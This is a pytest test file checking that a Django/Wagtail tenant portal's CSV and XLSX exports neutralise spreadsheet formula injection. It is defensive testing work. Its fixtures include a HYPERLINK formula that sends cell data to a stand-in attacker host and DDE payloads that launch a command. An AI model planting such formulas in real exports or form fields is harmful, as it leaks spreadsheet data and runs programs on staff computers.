"""CSV injection (OWASP): what tenants type ends up in the staff's spreadsheets. Every CSV and
XLSX export of the package writes a cell that a spreadsheet would run as a formula as text:
the requests and registrations exports, every viewset's list export, and the tenants' own
consumption download."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.conftest import verified_portal_user
from tests.consumption.conftest import MeterFactory, add_values
from tests.factories import ContractFactory, UserFactory
from wagtail_tenantportal.accounts.models import PortalAccount, RegistrationClaim
from wagtail_tenantportal.admin.scoping import SafeExportMixin
from wagtail_tenantportal.core.exports import FORMULA_PREFIXES, neutralise_formula, neutralise_row
from wagtail_tenantportal.tickets import services as ticket_services
from wagtail_tenantportal.tickets.models import TicketType

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Details ansehen")'
DDE = "-2+3+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    "value, written",
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+49 341 123456", "'+49 341 123456"),
        ("-2+3", "'-2+3"),
        (DDE, "'" + DDE),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("=", "'="),
        ("-", "'-"),
        ("Wasserhahn tropft", "Wasserhahn tropft"),
        ("Küche = Bad", "Küche = Bad"),
        ("'=schon Text", "'=schon Text"),
        ("", ""),
        ("-12,5", "-12,5"),
        ("-1.234,50", "-1.234,50"),
        ("+3", "+3"),
        ("-0.5e3", "-0.5e3"),
        ("-,5", "-,5"),
        ("-1e", "'-1e"),
        ("--1", "'--1"),
    ],
)
def test_a_cell_is_never_a_formula(value, written):
    assert neutralise_formula(value) == written


def test_other_values_are_unchanged():
    when = datetime.date(2026, 1, 2)
    for value in (None, 3, -3, 2.5, when, True):
        assert neutralise_formula(value) is value
    assert FORMULA_PREFIXES == ("=", "+", "-", "@", "\t", "\r")
    assert neutralise_row(["=1", 2, "a"]) == ["'=1", 2, "a"]


@pytest.mark.django_db
class TestExports:
    @pytest.fixture
    def staff_client(self, client):
        client.force_login(UserFactory(is_superuser=True, is_staff=True))
        return client

    @pytest.fixture
    def contract(self):
        return ContractFactory()

    def csv_rows(self, response):
        return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8"))))

    def xlsx_cells(self, response):
        sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
        return [cell for row in sheet.iter_rows() for cell in row]

    def test_the_requests_export_writes_a_tenants_formula_as_text(self, staff_client, contract):
        tenant = verified_portal_user(contract)
        ticket_services.submit_ticket(
            contract=contract,
            ticket_type=TicketType.objects.get(code="general_contact"),
            user=tenant,
            subject=HYPERLINK,
            description="Bitte melden",
        )
        url = reverse("tenantportal_tickets:index")
        rows = self.csv_rows(staff_client.get(url, {"export": "csv"}))
        cells = [cell for row in rows for cell in row]
        assert "'" + HYPERLINK in cells and HYPERLINK not in cells
        xlsx = [cell for cell in self.xlsx_cells(staff_client.get(url, {"export": "xlsx"})) if cell.value]
        written = [cell for cell in xlsx if "HYPERLINK" in str(cell.value)]
        assert [cell.value for cell in written] == ["'" + HYPERLINK] and written[0].data_type == "s"

    def test_the_registrations_export_writes_formulas_as_text(self, staff_client, contract):
        account = PortalAccount.objects.create(user=UserFactory())
        RegistrationClaim.objects.create(
            account=account,
            company=contract.company,
            first_name="@SUM(1+1)*cmd|' /C calc'!A0",
            last_name=DDE,
            street="=1+2",
            postal_code="04109",
            city="Leipzig",
            phone="+49 341 123456",
        )
        rows = self.csv_rows(
            staff_client.get(reverse("tenantportal_registrationclaim:index"), {"export": "csv"})
        )
        cells = [cell for row in rows[1:] for cell in row]
        assert "'" + DDE in cells and "'=1+2" in cells and "'+49 341 123456" in cells
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]

    def test_the_tenants_consumption_download_writes_formulas_as_text(self, client, contract):
        tenant = verified_portal_user(contract)
        meter = MeterFactory(unit=contract.unit, location=HYPERLINK)
        add_values(meter, datetime.date(2025, 1, 1), [10, 12])
        client.force_login(tenant)
        response = client.get(reverse("wagtail_tenantportal:consumption_export"))
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
        locations = {row[3] for row in rows[1:]}
        assert locations == {"'" + HYPERLINK}


def test_every_listing_of_the_package_writes_formulas_as_text():
    """Every index view of the package's admin (from the resolver) neutralises its export."""
    from tests.test_staff_scope_walk import package_admin_patterns

    patterns, _viewsets = package_admin_patterns()
    listings = [
        (route, pattern.callback.view_class)
        for route, _namespace, pattern in patterns
        if pattern.name in ("index", "list", "index_results", "list_results")
        and hasattr(getattr(pattern.callback, "view_class", None), "list_export")
    ]
    assert len(listings) > 40
    unsafe = [route for route, view_class in listings if not issubclass(view_class, SafeExportMixin)]
    assert not unsafe
